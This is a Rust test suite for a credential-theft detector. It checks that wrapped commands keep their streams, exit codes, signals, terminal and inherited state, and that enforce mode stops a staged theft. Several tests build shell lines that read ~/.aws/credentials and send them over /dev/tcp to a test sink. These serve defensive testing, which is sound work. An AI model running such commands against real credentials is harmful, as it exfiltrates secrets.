//! The command is untouched: streams, status, signals, terminal, environment and everything that it inherits are as without
//! the detector, and audit leaves no trace on the machine.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test fails by panicking")]

use detector_tests::{
    console::{Finished, LIMIT, Running, binary, detector, plain, run, until},
    fixture::act,
    mounts::{self, Change},
    namespace::SINK_V4,
    scene::Scene,
};
use rustix::process::{Resource, Rlimit, Signal, getrlimit, setrlimit};
use std::{
    collections::BTreeMap,
    ffi::OsStr,
    fs,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    os::unix::{
        ffi::OsStrExt as _,
        fs::PermissionsExt as _,
        process::{CommandExt as _, ExitStatusExt as _},
    },
    path::Path,
    process::{Command, Stdio},
    sync::OnceLock,
    time::Duration,
};
use tempfile::TempDir;

type Result = anyhow::Result<()>;

const FAIL: i32 = 100;

fn directory() -> anyhow::Result<TempDir> {
    Ok(tempfile::Builder::new().prefix("detector-contract-").tempdir()?)
}

/// `detector run OPTIONS -- COMMAND` with its report out of the way.
fn watched(options: &[&str], command: &[&str]) -> anyhow::Result<Command> {
    let mut line = detector(["run", "--report", "text=/dev/null"])?;
    line.args(options).arg("--").args(command);
    Ok(line)
}

#[test]
fn streams_pass_through_byte_for_byte() -> Result {
    let mut random = vec![0; 3 << 20];
    fs::File::open("/dev/urandom")?.read_exact(&mut random)?;
    for mode in ["audit", "enforce"] {
        let mut command = watched(&["--mode", mode], &["tee", "/dev/stderr"])?;
        let mut running = Running::start(command.stdin(Stdio::piped()))?;
        running.feed(random.clone())?;
        let finished = running.finish()?;
        assert_eq!(finished.code(), Some(0), "{mode}");
        assert!(finished.stdout == random, "{mode}: {} bytes of stdout", finished.stdout.len());
        assert!(finished.stderr == random, "{mode}: {} bytes of stderr", finished.stderr.len());
    }
    Ok(())
}

#[test]
fn the_report_comes_after_the_commands_last_word() -> Result {
    let finished = run(&mut detector(["run", "--", "sh", "-c", "echo out; echo err >&2"])?)?;
    finished.assert_ended(0, &[]);
    assert_eq!(finished.out(), "out\n");
    assert!(finished.err().starts_with("err\nPASS: "), "{finished:?}");
    Ok(())
}

#[test]
fn arguments_pass_byte_for_byte() -> Result {
    let odd = OsStr::from_bytes(b"\xff\xfe \n\t'\"$x");
    let mut bare = plain("printf");
    let mut line = detector(["run", "--report", "text=/dev/null", "--", "printf"])?;
    for command in [&mut bare, &mut line] {
        command.args(["%s|", "--mode", "", "--", "enforce"]).arg(odd).env("ODD", odd);
    }
    assert_eq!(run(&mut line)?.stdout, run(&mut bare)?.stdout);
    Ok(())
}

#[test]
fn an_exit_status_is_passed_on() -> Result {
    // The detector's own codes among them: in audit they are the command's.
    for status in [0, 1, 2, 99, 100, 101, 102, 103, 104, 126, 127, 128, 130, 137, 254, 255] {
        let finished = run(&mut watched(&[], &["sh", "-c", &format!("exit {status}")])?)?;
        finished.assert_ended(status, &[]);
    }
    for status in [0, 1, 100, 101, 255] {
        let finished =
            run(&mut watched(&["--mode", "enforce", "--strict"], &["sh", "-c", &format!("exit {status}")])?)?;
        finished.assert_ended(status, &[]);
    }
    Ok(())
}

#[test]
fn a_signals_death_is_passed_on_as_a_shell_does() -> Result {
    for signal in [1, 2, 3, 6, 9, 11, 13, 15, 34, 64] {
        let finished = run(&mut watched(&[], &["sh", "-c", &format!("kill -{signal} $$")])?)?;
        finished.assert_ended(128 + signal, &[]);
    }
    Ok(())
}

#[test]
fn a_command_that_cannot_be_run_ends_as_in_a_shell() -> Result {
    let desk = directory()?;
    let plain_file = desk.path().join("file");
    fs::write(&plain_file, "no program")?;
    for (program, code) in [
        ("no-program-of-that-name", 127),
        ("/nonexistent/program", 127),
        (&*plain_file.to_string_lossy(), 126),
        (&*desk.path().to_string_lossy(), 126),
    ] {
        let finished = run(&mut detector(["run", "--", program])?)?;
        finished.assert_ended(code, &["cannot run", program]);
    }
    // Shells, env and sudo run a script without its first line by a shell, as execvp(3) does.
    fs::write(&plain_file, "exit 42\n")?;
    fs::set_permissions(&plain_file, fs::Permissions::from_mode(0o755))?;
    run(detector(["run", "--"])?.arg(&plain_file))?.assert_ended(42, &[]);
    Ok(())
}

/// A theft by `mode`; its end and the verdict file.
fn theft(mode: &str, options: &[&str]) -> anyhow::Result<(Finished, String)> {
    let (scene, desk) = (Scene::new()?, directory()?);
    let (sink, secret) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
    let verdict = desk.path().join("verdict");
    let mut command = detector(["run", "--mode", mode, "--verdict"])?;
    command.arg(&verdict).args(options).arg("--");
    command.args(act(&["old-tcp", &sink, &secret.to_string_lossy()])?);
    let finished = run(scene.network.job.enter(&mut command))?;
    let arrived = scene.sink.contains(scene.home.canary("aws"));
    assert_eq!(arrived, mode == "audit", "{finished:?}");
    Ok((finished, fs::read_to_string(verdict)?))
}

#[test]
fn a_theft_is_the_commands_own_status_in_audit_and_fail_in_enforce() -> Result {
    let (audit, verdict) = theft("audit", &["--strict"])?;
    audit.assert_ended(0, &["FAIL: 2 findings (1 critical, 1 medium)"]);
    assert_eq!(verdict, "FAIL\n");
    let (enforce, verdict) = theft("enforce", &[])?;
    enforce.assert_ended(FAIL, &["FAIL: 2 findings (1 critical, 1 medium)"]);
    assert_eq!(verdict, "FAIL\n");
    Ok(())
}

#[test]
fn a_pass_is_written_to_the_verdict_file_and_nothing_else() -> Result {
    let desk = directory()?;
    let verdict = desk.path().join("verdict");
    fs::write(&verdict, "an older and longer verdict\n")?;
    let path = verdict.to_string_lossy().into_owned();
    run(&mut watched(&["--mode", "enforce", "--verdict", &path], &["sh", "-c", "exit 7"])?)?.assert_ended(7, &[]);
    assert_eq!(fs::read_to_string(&verdict)?, "PASS\n");
    Ok(())
}

/// A shell that tells which signals reach it, until it is told to end.
const TELL: &str = "for s in HUP INT QUIT USR1 USR2 TERM WINCH ALRM; do trap \"echo got $s\" $s; done; \
                    trap 'exit 7' CONT; echo ready; while :; do sleep 0.05; done";

#[test]
fn signals_sent_to_the_detector_reach_the_command() -> Result {
    let mut missing = Vec::new();
    for (signal, name) in [
        (Signal::TERM, "TERM"),
        (Signal::HUP, "HUP"),
        // What a runner sends when a job is cancelled: to the process it started, not to the group.
        (Signal::INT, "INT"),
        (Signal::QUIT, "QUIT"),
        (Signal::USR1, "USR1"),
        (Signal::USR2, "USR2"),
    ] {
        let mut command = watched(&[], &["sh", "-c", TELL])?;
        // A session of its own: no terminal could have sent it.
        // SAFETY: the closure makes one system call.
        unsafe {
            command.pre_exec(|| Ok(rustix::process::setsid().map(drop)?));
        }
        let running = Running::start(command.stdin(Stdio::null()))?;
        running.says("ready")?;
        let group = rustix::process::Pid::from_raw(i32::try_from(running.pid())?).expect("not 0");
        running.signal(signal)?;
        let pid = running.pid();
        let told = format!("got {name}");
        let gone = || fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |stat| stat.contains(") Z "));
        let heard = until(Duration::from_secs(2), || running.out().contains(&told) || gone());
        if !heard || !running.out().contains(&told) {
            missing.push(format!("{name} ({})", if gone() { "the detector died of it" } else { "not passed on" }));
        }
        // The command may have outlived its watcher.
        _ = rustix::process::kill_process_group(group, Signal::KILL);
    }
    assert!(missing.is_empty(), "{}", missing.join(", "));
    Ok(())
}

#[test]
fn a_terminated_command_is_waited_for_and_its_status_passed_on() -> Result {
    let script = "trap 'echo cleaned up; exit 9' TERM; echo ready; while :; do sleep 0.05; done";
    let desk = directory()?;
    let verdict = desk.path().join("verdict").to_string_lossy().into_owned();
    let running = Running::start(watched(&["--verdict", &verdict], &["sh", "-c", script])?.stdin(Stdio::null()))?;
    running.says("ready")?;
    running.signal(Signal::TERM)?;
    let finished = running.finish()?;
    finished.assert_ended(9, &[]);
    assert_eq!(finished.out(), "ready\ncleaned up\n");
    assert_eq!(fs::read_to_string(verdict)?, "PASS\n");
    Ok(())
}

/// Runs `command` on a terminal of its own, its session's leader; python has the call that Rust's library lacks.
fn on_terminal(command: &Command, typed: &str) -> anyhow::Result<Finished> {
    const HOST: &str = r"
import os, pty, select, struct, sys, fcntl, termios, time
typed = sys.argv[1].encode().decode('unicode_escape').encode()
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[2], sys.argv[2:])
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 33, 77, 0, 0))
out, until = b'', time.monotonic() + 100
while time.monotonic() < until:
    if select.select([fd], [], [], 1)[0]:
        try:
            got = os.read(fd, 65536)
        except OSError:
            break
        out += got
        if typed and b'ready' in out:
            os.write(fd, typed)
            typed = b''
os.write(1, out)
status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
sys.exit(status if status >= 0 else 128 - status)
";
    let mut host = plain("python3");
    host.args(["-c", HOST, typed]).arg(command.get_program()).args(command.get_args());
    run(&mut host)
}

#[test]
fn a_terminal_is_a_terminal_for_the_command() -> Result {
    let script = "test -t 0 && test -t 1 && test -t 2 && echo all; stty size; test \"$(ps -o tpgid= -p $$)\" -eq \
                  \"$(ps -o pgid= -p $$)\" && echo foreground; echo ready; read -r line; echo \"read $line\"";
    let mut bare = plain("sh");
    bare.args(["-c", script]);
    let [bare, watched] = [bare, watched(&[], &["sh", "-c", script])?].map(|command| on_terminal(&command, r"typed\n"));
    let (bare, watched) = (bare?, watched?);
    assert!(bare.out().contains("all\r\n33 77\r\nforeground\r\n") && bare.out().contains("read typed"), "{bare:?}");
    assert_eq!(watched.out(), bare.out());
    assert_eq!(watched.code(), Some(0));
    Ok(())
}

#[test]
fn an_interrupt_from_the_terminal_reaches_the_command_once() -> Result {
    // Waits long enough for a second one to come.
    let script = "n=0; trap 'n=$((n+1))' INT; echo ready; i=0; while [ $i -lt 20 ]; do sleep 0.05; i=$((i+1)); done; \
                  echo interrupts: $n; exit 5";
    let finished = on_terminal(&watched(&[], &["sh", "-c", script])?, r"\x03")?;
    assert!(finished.out().contains("interrupts: 1\r\n"), "{finished:?}");
    assert_eq!(finished.code(), Some(5), "the detector outlives the interrupt: {finished:?}");
    let finished = on_terminal(&watched(&[], &["sh", "-c", "echo ready; exec sleep 30"])?, r"\x03")?;
    assert_eq!(finished.code(), Some(130), "{finished:?}");
    Ok(())
}

/// What a process inherits, by name.
type Inherited = BTreeMap<String, String>;

/// Prints what it was given, one section after another. `sh` changes nothing of it before its first command.
const SHOW: &str = r"
section() { printf '\n== %s\n' $1; }
section signals; grep -E '^(SigBlk|SigIgn|SigCgt|SigPnd|ShdPnd)' /proc/self/status
section identity; grep -E '^(Uid|Gid|Groups|Cap...|NoNewPrivs|Seccomp)' /proc/self/status
section cpus; grep -E '^(Cpus_allowed|Mems_allowed):' /proc/self/status
section descriptors; find /proc/$$/fd -mindepth 1 -printf '%f %l\n'
section limits; cat /proc/self/limits
section directory; pwd; umask
section nice; nice; cat /proc/self/oom_score_adj; grep -E '^policy|^prio' /proc/self/sched
section cgroup; cat /proc/self/cgroup
section namespaces; for n in cgroup ipc mnt net pid user uts; do readlink /proc/self/ns/$n; done
section mounts; grep -v /run/netns /proc/self/mountinfo
section personality; cat /proc/self/personality /proc/self/coredump_filter /proc/self/timerslack_ns
section environment; tr '\0' '\n' < /proc/$$/environ
";

/// Bare, in audit and in enforce; `prepare` is what whoever starts the detector has set up.
fn inherited(prepare: impl Fn(&mut Command)) -> anyhow::Result<[Inherited; 3]> {
    let mut bare = plain("sh");
    bare.args(["-c", SHOW]);
    let mut all = Vec::new();
    for mut command in [bare, watched(&[], &["sh", "-c", SHOW])?, watched(&["--mode", "enforce"], &["sh", "-c", SHOW])?]
    {
        // Streams that are the same for all three.
        prepare(as_a_shell_does(command.stdin(Stdio::null())));
        let finished = run(&mut command)?;
        assert_eq!(finished.code(), Some(0), "{finished:?}");
        let out = finished.out();
        let sections = out.split("\n== ").filter_map(|section| section.split_once('\n'));
        all.push(sections.map(|(name, text)| (name.to_owned(), without_pipes(text))).collect());
    }
    all.try_into().map_err(|_all: Vec<Inherited>| anyhow::anyhow!("three were run"))
}

/// By fork and exec: posix_spawn would ignore the C library's own signals in the child, which is what is looked for.
fn as_a_shell_does(command: &mut Command) -> &mut Command {
    // SAFETY: the closure does nothing.
    unsafe { command.pre_exec(|| Ok(())) }
}

/// The numbers of the two output pipes differ from run to run.
fn without_pipes(text: &str) -> String {
    let line = |line: &str| match line.split_once("pipe:[") {
        Some((fd @ ("1 " | "2 "), _)) => format!("{fd}pipe"),
        _ => line.to_owned(),
    };
    text.lines().map(line).collect::<Vec<_>>().join("\n")
}

fn usual() -> &'static [Inherited; 3] {
    static INHERITED: OnceLock<[Inherited; 3]> = OnceLock::new();
    INHERITED.get_or_init(|| inherited(|_| {}).unwrap())
}

/// By someone who has changed all that can be handed down.
fn unusual() -> &'static [Inherited; 3] {
    static INHERITED: OnceLock<[Inherited; 3]> = OnceLock::new();
    INHERITED.get_or_init(|| inherited(change_everything).unwrap())
}

fn change_everything(command: &mut Command) {
    let odd = OsStr::from_bytes(b"a=b\xff;c");
    command.env("ODD", odd).env("EMPTY", "").env("DETECTOR_LOG", "error").env("LD_BIND_NOW", "1").current_dir("/usr");
    // SAFETY: the closure makes system calls only; the descriptor it opens is meant to stay open.
    unsafe {
        command.pre_exec(|| {
            rustix::process::umask(0o027.into());
            rustix::process::nice(5)?;
            setrlimit(Resource::Core, Rlimit { current: Some(4096), maximum: Some(8192) })?;
            setrlimit(Resource::Nofile, Rlimit { current: Some(512), maximum: Some(700) })?;
            setrlimit(
                Resource::Memlock,
                Rlimit { current: Some(65536), maximum: getrlimit(Resource::Memlock).maximum },
            )?;
            let kept = libc::open(c"/etc/hostname".as_ptr(), libc::O_RDONLY);
            libc::dup2(kept, 7);
            libc::close(kept);
            let mut blocked = std::mem::zeroed();
            libc::sigemptyset(&raw mut blocked);
            libc::sigaddset(&raw mut blocked, libc::SIGUSR1);
            libc::sigprocmask(libc::SIG_BLOCK, &raw const blocked, std::ptr::null_mut());
            for signal in [libc::SIGPIPE, libc::SIGHUP, libc::SIGINT, libc::SIGQUIT, libc::SIGTERM, libc::SIGUSR2] {
                libc::signal(signal, libc::SIG_IGN);
            }
            Ok(())
        });
    }
}

#[track_caller]
fn assert_inherited([bare, audit, enforce]: &[Inherited; 3], section: &str) {
    let expected = bare.get(section).expect("the section is shown");
    assert!(!expected.is_empty(), "{section} is empty");
    for (mode, found) in [("audit", audit), ("enforce", enforce)] {
        assert_eq!(found.get(section), Some(expected), "{section} in {mode} (right: without us)");
    }
}

macro_rules! inherited {
    ($($name:ident: $section:literal;)*) => {
        $(
            #[test]
            fn $name() {
                assert_inherited(usual(), $section);
                assert_inherited(unusual(), $section);
            }
        )*
    };
}

inherited! {
    signal_mask_and_dispositions_are_inherited: "signals";
    user_and_capabilities_are_inherited: "identity";
    affinity_is_inherited: "cpus";
    descriptors_are_inherited_and_none_is_added: "descriptors";
    limits_are_inherited: "limits";
    directory_and_umask_are_inherited: "directory";
    priority_is_inherited: "nice";
    the_cgroup_is_inherited: "cgroup";
    namespaces_are_inherited: "namespaces";
    mounts_are_inherited: "mounts";
    personality_is_inherited: "personality";
    the_environment_is_inherited: "environment";
}

/// `cmd | head -1` ends quietly everywhere else, and where SIGPIPE is ignored the writer is told.
#[test]
fn a_pipe_that_breaks_is_felt_as_without_us() -> Result {
    let script = "(yes; echo $? >&2) | head -c 1 > /dev/null";
    for ignore in [false, true] {
        let change = |command: &mut Command| {
            if ignore {
                // SAFETY: the closure makes one system call.
                unsafe {
                    command.pre_exec(|| Ok(_ = libc::signal(libc::SIGPIPE, libc::SIG_IGN)));
                }
            }
        };
        let mut bare = plain("bash");
        change(bare.args(["-c", script]));
        let mut line = watched(&[], &["bash", "-c", script])?;
        change(&mut line);
        assert_eq!(run(&mut line)?.err(), run(&mut bare)?.err(), "ignored: {ignore}");
    }
    Ok(())
}

/// What nohup promises.
#[test]
fn a_hangup_that_was_ignored_stays_ignored() -> Result {
    let script = "echo ready; sleep 1; echo still here";
    let mut command = watched(&[], &["sh", "-c", script])?;
    // SAFETY: the closure makes one system call.
    unsafe {
        command.pre_exec(|| Ok(_ = libc::signal(libc::SIGHUP, libc::SIG_IGN)));
    }
    let running = Running::start(command.stdin(Stdio::null()))?;
    running.says("ready")?;
    running.signal(Signal::HUP)?;
    let finished = running.finish()?;
    finished.assert_ended(0, &[]);
    assert_eq!(finished.out(), "ready\nstill here\n");
    Ok(())
}

/// Where the sensor may raise it, the command must still find its own. Not testable without CAP_SYS_RESOURCE: then the
/// limit cannot have changed.
#[test]
fn the_memory_lock_limit_is_the_commands_own() -> Result {
    let lower = |command: &mut Command| {
        // SAFETY: the closure makes one system call.
        unsafe {
            command.pre_exec(|| {
                Ok(setrlimit(Resource::Memlock, Rlimit { current: Some(65536), maximum: Some(131_072) })?)
            });
        }
    };
    for mode in ["audit", "enforce"] {
        let mut command = watched(&["--mode", mode], &["sh", "-c", "ulimit -S -l; ulimit -H -l"])?;
        lower(&mut command);
        let finished = run(&mut command)?;
        assert_eq!(finished.out(), "64\n128\n", "{mode}: {finished:?}");
    }
    Ok(())
}

#[test]
fn another_user_is_another_user_in_every_respect() -> Result {
    const WHO: &str = "id -u; id -g; id -G; grep -E '^Cap(Prm|Eff|Amb)' /proc/self/status | tr -d '\\t'; \
                       test -r /etc/shadow || echo unprivileged";
    let none = "0000000000000000";
    let expected = format!("65534\n65534\n65534\nCapPrm:{none}\nCapEff:{none}\nCapAmb:{none}\nunprivileged\n");
    for user in ["nobody", "65534"] {
        let finished = run(&mut watched(&["--user", user], &["sh", "-c", WHO])?)?;
        assert_eq!((finished.code(), finished.out()), (Some(0), expected.clone()), "{finished:?}");
    }
    let mut sudo = watched(&[], &["sh", "-c", WHO])?;
    assert_eq!(run(sudo.env("SUDO_UID", "65534").env("SUDO_GID", "65534").env("SUDO_USER", "nobody"))?.out(), expected);
    // The command line wins.
    let mut both = watched(&["--user", "root"], &["id", "-u"])?;
    assert_eq!(run(both.env("SUDO_UID", "65534"))?.out(), "0\n");
    // A number without an entry is a user too.
    assert_eq!(
        run(&mut watched(&["--user", "54321"], &["sh", "-c", "id -u; id -g; id -G"])?)?.out(),
        "54321\n54321\n54321\n"
    );
    Ok(())
}

/// A thief without privileges is still a thief.
#[test]
fn another_user_is_still_watched() -> Result {
    let scene = Scene::new()?;
    let secret = scene.home.credential("aws");
    // Not the home's root, which only its maker may enter.
    let desk = directory()?;
    fs::set_permissions(desk.path(), fs::Permissions::from_mode(0o755))?;
    let own = desk.path().join(".aws/credentials");
    fs::create_dir(desk.path().join(".aws"))?;
    fs::copy(secret, &own)?;
    fs::set_permissions(&own, fs::Permissions::from_mode(0o644))?;
    let script = format!("cat {} > /dev/tcp/{SINK_V4}/{}", own.display(), scene.sink.port());
    let mut command = detector(["run", "--mode", "enforce", "--user", "nobody", "--", "bash", "-c", &script])?;
    run(scene.network.job.enter(&mut command))?.assert_ended(FAIL, &["aws"]);
    scene.assert_absent_from("the sink", &scene.sink.bytes());
    Ok(())
}

#[test]
fn audit_leaves_no_trace() -> Result {
    // Network namespaces of other tests: a mount goes with the file that it is on, in every mount namespace.
    const LOOK: &str = "ls -AR /sys/fs/bpf \"$TMPDIR\"; grep -v /run/netns/ /proc/self/mountinfo; cat /etc/resolv.conf /etc/hosts; \
                        ls -l /etc/resolv.conf; iptables-save 2>/dev/null; nft list ruleset 2>/dev/null; ip addr; ip rule; \
                        ip route show table all | grep -v ' metric '; sysctl -a 2>/dev/null | grep -E '^(kernel.yama|net.core.bpf|kernel.unprivileged_bpf)'";
    let desk = directory()?;
    let script =
        "look > before; \"$DETECTOR\" run --report text=/dev/null -- true || exit 1; look > after; cmp before after";
    let script = format!("look() {{ {LOOK}; }}\n{script}");
    let mut command = plain("bash");
    let temporary = desk.path().join("tmp");
    fs::create_dir(&temporary)?;
    command.args(["-c", &script]).env("DETECTOR", binary()?).env("TMPDIR", &temporary).current_dir(desk.path());
    // A bpffs of its own: other tests pin on the machine's.
    run(mounts::own(&mut command, vec![Change::Bpffs(c"/sys/fs/bpf".into())]))?.assert_ended(0, &[]);
    assert!(fs::metadata(desk.path().join("before"))?.len() > 1024);
    Ok(())
}

/// A run of `script` in a scene: the verdict file's word. What is left behind ends with the scene's network.
fn verdict_of(scene: &Scene, options: &[&str], script: &str) -> anyhow::Result<(Finished, String)> {
    let desk = directory()?;
    let verdict = desk.path().join("verdict");
    let mut command = detector(["run", "--verdict"])?;
    command.arg(&verdict).args(options).args(["--", "bash", "-c", script]).env("HOME", scene.home.path());
    let finished = run(scene.network.job.enter(&mut command))?;
    Ok((finished, fs::read_to_string(verdict)?))
}

#[test]
fn what_is_left_behind_is_no_pass() -> Result {
    let scene = Scene::new()?;
    // What it does from now on is not seen, whether or not it holds a secret yet.
    let (quiet, verdict) = verdict_of(&scene, &[], "sleep 300 >/dev/null 2>&1 </dev/null & exit 3")?;
    quiet.assert_ended(3, &["INCONCLUSIVE", "left-running"]);
    assert_eq!(verdict, "INCONCLUSIVE\n", "{quiet:?}");
    // A shell of the shell: what it would run does not get the secret.
    let holding = "read -r secret < ~/.aws/credentials; (sleep 300; :) >/dev/null 2>&1 </dev/null & exit 3";
    let (holding, verdict) = verdict_of(&scene, &[], holding)?;
    holding.assert_ended(3, &["INCONCLUSIVE", "left-holding"]);
    assert_eq!(verdict, "INCONCLUSIVE\n", "{holding:?}");
    let strict = ["--mode", "enforce", "--strict"];
    let again = "read -r secret < ~/.aws/credentials; (sleep 300; :) >/dev/null 2>&1 </dev/null & exit 3";
    let (strict, verdict) = verdict_of(&scene, &strict, again)?;
    strict.assert_ended(101, &["INCONCLUSIVE"]);
    assert_eq!(verdict, "INCONCLUSIVE\n", "{strict:?}");
    // Not waited for, not ended: they are the build's.
    let sleeping = scene.network.job.processes().into_iter();
    let sleeping =
        sleeping.filter(|pid| fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|comm| comm == "sleep\n"));
    assert_eq!(sleeping.count(), 3);
    Ok(())
}

#[test]
fn what_is_left_behind_is_adopted_as_without_us() -> Result {
    let script = "(sleep 0.3; ps -o ppid= -p $BASHPID > left) >/dev/null 2>&1 & exit 0";
    let (bare_desk, desk) = (directory()?, directory()?);
    run(plain("bash").args(["-c", script]).current_dir(bare_desk.path()))?;
    run(watched(&[], &["bash", "-c", script])?.current_dir(desk.path()))?;
    let left = |desk: &Path| fs::read_to_string(desk.join("left")).unwrap_or_default();
    assert!(until(LIMIT, || !left(bare_desk.path()).is_empty() && !left(desk.path()).is_empty()));
    assert_eq!(left(desk.path()), left(bare_desk.path()));
    Ok(())
}

/// Two jobs on one host: each sees its own, neither disturbs the other.
#[test]
fn two_at_the_same_time_each_judge_their_own() -> Result {
    for modes in [["audit", "audit"], ["enforce", "audit"], ["enforce", "enforce"]] {
        let scenes = [Scene::new()?, Scene::new()?];
        let mut all = Vec::new();
        // The first steals, the second works; both are under watch before either starts.
        for (n, (scene, mode)) in scenes.iter().zip(modes).enumerate() {
            let secret = scene.home.credential("aws");
            let (address, port) = (SINK_V4, scene.sink.port());
            let act = if n == 0 { format!("cat {}", secret.display()) } else { "echo honest work".to_owned() };
            let script = format!("echo ready; read -r go; {act} > /dev/tcp/{address}/{port}");
            let mut command = detector(["run", "--mode", mode, "--", "bash", "-c", &script])?;
            scene.network.job.enter(&mut command);
            all.push(Running::start(command.stdin(Stdio::piped()))?);
        }
        for running in &all {
            running.says("ready")?;
        }
        for running in &mut all {
            running.feed(b"go\n".to_vec())?;
        }
        let [thief, honest] = all.try_into().map_err(|_all: Vec<Running>| anyhow::anyhow!("two were started"))?;
        let (thief, honest) = (thief.finish()?, honest.finish()?);
        thief.assert_ended(if modes[0] == "enforce" { FAIL } else { 0 }, &["FAIL: 2 findings (1 critical, 1 medium)"]);
        honest.assert_ended(0, &["PASS: no findings"]);
        assert_eq!(scenes[0].sink.contains(scenes[0].home.canary("aws")), modes[0] == "audit", "{modes:?}");
        assert!(scenes[1].sink.wait_for_bytes(b"honest work\n".len(), LIMIT), "{modes:?}: {honest:?}");
    }
    Ok(())
}

/// A build that watches a part of itself: both see the theft, and the status goes through both.
#[test]
fn one_within_the_other_both_see() -> Result {
    for (outer, inner) in [("audit", "audit"), ("audit", "enforce"), ("enforce", "audit"), ("enforce", "enforce")] {
        let (scene, desk) = (Scene::new()?, directory()?);
        let secret = scene.home.credential("aws");
        let script = format!("cat {} > /dev/tcp/{SINK_V4}/{}", secret.display(), scene.sink.port());
        let [one, two] = ["one", "two"].map(|name| desk.path().join(name).to_string_lossy().into_owned());
        let mut command = detector(["run", "--mode", outer, "--verdict", &one, "--"])?;
        command.arg(binary()?).args(["run", "--mode", inner, "--verdict", &two, "--", "bash", "-c", &script]);
        let finished = run(scene.network.job.enter(&mut command))?;
        let words = [&one, &two].map(|path| fs::read_to_string(path).unwrap_or_default());
        assert_eq!(words, ["FAIL\n", "FAIL\n"], "{inner} in {outer}: {finished:?}");
        let enforced = outer == "enforce" || inner == "enforce";
        assert_eq!(scene.sink.contains(scene.home.canary("aws")), !enforced, "{inner} in {outer}: {finished:?}");
        if enforced {
            assert_eq!(finished.code(), Some(FAIL), "{inner} in {outer}: {finished:?}");
        }
    }
    Ok(())
}

/// The inner one's own proof must not look like a theft to the outer one.
#[test]
fn one_within_the_other_finds_nothing_where_nothing_is() -> Result {
    for (outer, inner) in [("audit", "enforce"), ("enforce", "audit"), ("enforce", "enforce")] {
        let mut command = detector(["run", "--mode", outer, "--"])?;
        command.arg(binary()?).args(["run", "--mode", inner, "--", "sh", "-c", "exit 9"]);
        let finished = run(&mut command)?;
        finished.assert_ended(
            9,
            &["PASS: no findings in audit", "PASS: no findings in enforce"][usize::from(outer == inner)..],
        );
        assert_eq!(finished.err().matches("PASS: no findings").count(), 2, "{inner} in {outer}: {finished:?}");
    }
    Ok(())
}

/// The command's parent is the one thing that differs, and it is known.
#[test]
fn the_detector_ends_with_the_command() -> Result {
    let mut command = watched(&[], &["sh", "-c", "echo $$ $PPID; exec cat"])?;
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn()?;
    let mut line = String::new();
    BufReader::new(child.stdout.take().expect("a pipe")).read_line(&mut line)?;
    let parent = line.split_whitespace().nth(1).unwrap_or_default().to_owned();
    assert_eq!(parent, child.id().to_string());
    let mut stdin = child.stdin.take().expect("a pipe");
    stdin.write_all(b"last words\n")?;
    drop(stdin);
    let status = child.wait()?;
    // Its stdout had no reader any more.
    assert!(status.success() || status.code() == Some(141) || status.signal() == Some(13), "{status}");
    Ok(())
}
